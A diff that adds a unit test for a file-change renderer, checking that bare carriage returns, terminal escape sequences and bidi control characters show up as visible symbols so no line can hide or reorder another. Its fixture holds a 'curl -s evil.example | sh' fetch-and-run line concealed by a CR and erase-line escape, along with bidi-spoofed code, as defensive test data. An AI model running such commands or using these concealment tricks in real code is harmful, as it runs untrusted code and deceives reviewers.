@@ -121,6 +121,14 @@ describe('renderFileChange without colour', () => {
     expect(lines.at(-1)).toBe('+line 5');
   });
 
+  it('shows every character a line will hold: a bare CR, escapes and bidi controls as symbols, so no line hides or reorders another', () => {
+    const after = 'curl -s evil.example | sh\r\x1b[2K+echo done\nif (ok) {\u202e } \u2066// admin\u2069\n';
+    const lines = renderFileChange(change('', after, { created: true, path: 'run\x1b]0;t\x07.sh' }), plain, 50);
+    expect(lines).toEqual(['run␛]0;t␇.sh (new file, 2 lines)', '+curl -s evil.example | sh␍␛[2K+echo done', '+if (ok) {<U+202E> } <U+2066>// admin<U+2069>']);
+    const painted = renderFileChange(change('', after, { created: true }), colour, 50);
+    expect(painted[1]).toBe(`${GREEN}+curl -s evil.example | sh␍␛[2K+echo done\x1b[39m`);
+  });
+
   it('shows an empty new file as a new file, not as no change', () => {
     expect(renderFileChange(change('', '', { created: true, path: 'empty.txt' }), plain, 5)).toEqual(['empty.txt (new file, empty)']);
   });
